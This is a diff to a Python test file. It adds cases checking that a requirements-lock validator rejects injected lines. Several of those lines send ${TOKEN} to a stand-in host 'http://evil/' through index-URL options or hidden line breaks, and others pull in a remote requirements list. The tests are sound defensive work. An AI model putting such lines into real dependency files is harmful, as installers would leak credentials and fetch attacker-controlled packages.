@@ -64,13 +64,36 @@ def validated(directory, content, requirements):
         f"yev @ http://h/${{TOKEN}}$x/yev-1.0-py3-none-any.whl{HASH}",
         "--index-url http://h/${${TOKEN}}\n",
         "# a comment \\\n${AWS_SECRET_ACCESS_KEY}\n",
+        "--extra-index-url http://evil/${TOKEN}\n",
+        "yev @ http://evil/ \\\n--index-url http://${TOKEN}@h/\n",
+        " --index-url http://${TOKEN}@h/\n",
+        "--index-url http://${TOKEN}@h/ -r http://evil/list\n",
+        f"yev @ http://evil/\f--index-url http://${{TOKEN}}@h/{HASH}",
+        "--index-url http://${TOKEN}@h/\r\n",
     ],
 )
 def test_lock_names_no_variable_that_its_author_does_not(tmp_path, monkeypatch, line):
     """An installer would replace it by a secret, and send it to a stranger."""
     monkeypatch.chdir(tmp_path)
     (found,) = validated(tmp_path, f"numpy==2.1.0{HASH}{line}", "--index-url http://${TOKEN}@h/\nnumpy\n")
-    assert "names a variable in line" in found
+    assert "in line " in found
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "-r http://evil/list\n",
+        " --requirement=http://evil/list\n",
+        "-chttp://evil/list\n",
+        "-e .\n",
+        "#\r-r list\n",
+        "--pre\n",
+    ],
+)
+def test_lock_names_no_other_list(tmp_path, monkeypatch, line):
+    monkeypatch.chdir(tmp_path)
+    (found,) = validated(tmp_path, f"numpy==2.1.0{HASH}{line}", "numpy\n")
+    assert "in line 3" in found
 
 
 @pytest.mark.parametrize("option", ["--index-url https://${TOKEN}@h/", "--find-links https://u:${TOKEN}@h/a", ""])
